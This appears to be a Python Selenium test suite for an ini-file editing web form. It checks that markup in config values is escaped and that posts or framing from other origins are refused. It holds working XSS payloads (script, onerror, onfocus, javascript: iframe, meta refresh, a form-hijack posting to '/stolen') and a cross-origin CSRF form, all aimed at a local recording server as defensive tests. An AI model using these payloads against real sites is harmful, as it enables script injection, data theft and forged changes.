"""Opens ini files that hold markup, and posts from pages of other origins.

Usage: Containment_test.py SOURCE BUILD. A second server on loopback is the place where nothing may
be fetched from or sent to.
"""
import http.server
import sys
import threading
import unittest
import urllib.parse
import urllib.request

from selenium.common.exceptions import TimeoutException
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.wait import WebDriverWait

from browser import BrowserTest

FILE = b'NZIGwQueue GATE.IN #requests\n'

# Each breaks out of its field; %s is the other server.
MARKUP = '''A x #"><script>fetch("%s/script")</script>
B x #"><img src=%s/image onerror='fetch("%s/handler")'>
C x #"><iframe src=%s/frame></iframe>
D x #"><link rel=stylesheet href=%s/style><script src=%s/fetched></script>
E x #" autofocus onfocus='fetch("%s/focus")' x="
F x #"><iframe src='javascript:fetch("%s/address")'></iframe>
'''
FETCHED = {'/script', '/image', '/handler', '/frame', '/style', '/fetched', '/focus', '/address'}
# The last one alone, since the pages of the others would go with it.
REFRESH = 'G x #"><meta http-equiv=refresh content="0;url=%s/refresh">\n'
OPEN_DIALOG = 'G x #"><script>alert(1)</script>\n'


class Elsewhere(http.server.ThreadingHTTPServer):
    """A server that knows pages and remembers what it was asked for."""
    daemon_threads = True

    class RequestHandlerClass(http.server.BaseHTTPRequestHandler):
        def answer(self):
            path = self.path.partition('?')[0]
            self.server.asked.add(path)
            self.send_response(200 if path in self.server.pages else 404)
            self.send_header('Content-Type', 'text/html; charset=utf-8')
            self.send_header('Access-Control-Allow-Origin', '*')
            self.end_headers()
            self.wfile.write(self.server.pages.get(path, b''))

        do_GET = do_POST = answer  # the names that the library calls

        def log_message(self, *_):
            pass

    def __init__(self):
        super().__init__(('127.0.0.1', 0), self.RequestHandlerClass)
        self.address = f'http://127.0.0.1:{self.server_port}'
        self.pages = {}
        self.asked = set()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def stop(self):
        self.shutdown()
        self.server_close()


class Containment(BrowserTest):
    def setUp(self):
        super().setUp()
        self.elsewhere = Elsewhere()
        self.addCleanup(self.elsewhere.stop)

    def put_markup(self, markup):
        text = markup.replace('%s', self.elsewhere.address)
        self.put('dnz.ini', FILE + text.encode())

    def control(self):
        """The same form without the policy, to see that the markup does what it is meant to."""
        body = urllib.parse.urlencode({'dnzcnf': 'open', 'dnzINIfile': 'dnz.ini'}).encode()
        with urllib.request.urlopen(self.program, body) as answer:
            self.elsewhere.pages['/control'] = answer.read()
        self.browser.get(self.elsewhere.address + '/control')

    def asked(self):
        return self.elsewhere.asked - {'/control', '/favicon.ico', '/dnzgate/dnzcnf.css'}

    def wait(self, condition, seconds=2):
        try:
            return WebDriverWait(self.browser, seconds, poll_frequency=0.1).until(condition)
        except TimeoutException:
            return None

    def test_markup_in_values_fetches_and_runs_nothing_and_the_form_saves(self):
        self.put_markup(MARKUP)
        self.press('dnz.ini')
        self.assertIsNone(self.wait(lambda _: self.asked()), self.asked())
        self.assertEqual(len(self.names_shown()), 1 + MARKUP.count('\n'))
        self.fill('v6', 'GATE.NEW')
        self.press('Save')
        self.assertIn(b'NZIGwQueue GATE.NEW #requests\n', self.saved('dnz.ini'))
        self.assertEqual(self.asked(), set())

        self.put_markup(MARKUP)
        self.control()
        self.wait(lambda _: self.asked() == FETCHED, 20)
        self.assertEqual(self.asked(), FETCHED)

    def test_markup_in_values_shows_no_dialog_and_leads_nowhere(self):
        self.put_markup(REFRESH)
        self.press('dnz.ini')
        self.assertIsNone(self.wait(lambda _: self.asked()))
        self.assertEqual(self.browser.current_url, self.program)
        self.control()
        self.assertTrue(self.wait(lambda _: self.asked() == {'/refresh'}, 20))

        self.browser.get(self.entry_page)
        self.put_markup(OPEN_DIALOG)
        self.press('dnz.ini')
        self.assertIsNone(self.wait(expected_conditions.alert_is_present()))
        self.control()
        self.wait(expected_conditions.alert_is_present(), 20).accept()

    def test_markup_that_closes_the_form(self):
        # The second one breaks out of its field; what it leaves of itself is saved.
        closed = 'G x #</form></table></main>\n'
        for markup, kept in (closed, closed), ('G x #"></form>\n', 'G x # \n'):
            self.browser.get(self.entry_page)
            self.put_markup(markup)
            self.press('dnz.ini')
            self.fill('v1', 'GATE.NEW')
            self.press('Save')
            self.assertEqual(self.saved('dnz.ini'),
                             kept.encode() + FILE.replace(b'GATE.IN', b'GATE.NEW'))

        # This one closes the table and opens a form of its own, which has the button: it leads nowhere.
        self.put_markup('A x #"></table></form><form method=post action=%s/stolen>\n')
        contents = self.saved('dnz.ini')
        self.browser.get(self.entry_page)
        self.press('dnz.ini')
        self.button('Save').click()
        self.assertIsNone(self.wait(lambda _: self.asked()))
        self.assertEqual(self.saved('dnz.ini'), contents)
        self.control()
        self.button('Save').click()
        self.assertTrue(self.wait(lambda _: self.asked() == {'/stolen'}, 20))

    def test_post_from_another_origin_changes_nothing(self):
        fields = {'dnzhidefile': 'dnz.ini', 'dnzINIsave': 'dnz.ini', 'dnzSave': 'save',
                  'dnzNumPairs': '0', 'dnzNewName': 'Planted'}
        inputs = ''.join(f'<input name={name} value="{value}">' for name, value in fields.items())
        page = f'<form method=post action="{self.program}">{inputs}<button>Save</button></form>'
        self.elsewhere.pages['/form'] = page.encode()
        self.put('dnz.ini', FILE)
        address = self.elsewhere.address
        for origin in (address, address.replace('127.0.0.1', 'localhost')):
            with self.subTest(origin):
                self.browser.get(origin + '/form')
                self.press('Save')
                self.assertEqual(self.browser.current_url, self.program)
                self.assertIn('403', self.page_text())
                self.assertEqual(self.saved('dnz.ini'), FILE)
        # From the server's own origin the same post is served.
        own = urllib.request.Request(self.program, urllib.parse.urlencode(fields).encode(),
                                     {'Origin': self.program.partition('/cgi-bin')[0]})
        urllib.request.urlopen(own).close()
        self.assertIn(b'Planted', self.saved('dnz.ini'))

    def test_page_of_another_origin_frames_nothing(self):
        self.elsewhere.pages['/form'] = b'<form></form>'
        for framed, forms in (self.entry_page, 0), (self.elsewhere.address + '/form', 1):
            self.elsewhere.pages['/frame'] = f'<iframe src="{framed}"></iframe>'.encode()
            self.browser.get(self.elsewhere.address + '/frame')
            self.browser.switch_to.frame(0)
            self.addCleanup(self.browser.switch_to.default_content)
            self.assertEqual(len(self.browser.find_elements(By.TAG_NAME, 'form')), forms)


if __name__ == '__main__':
    unittest.main(argv=sys.argv[:1], verbosity=2)
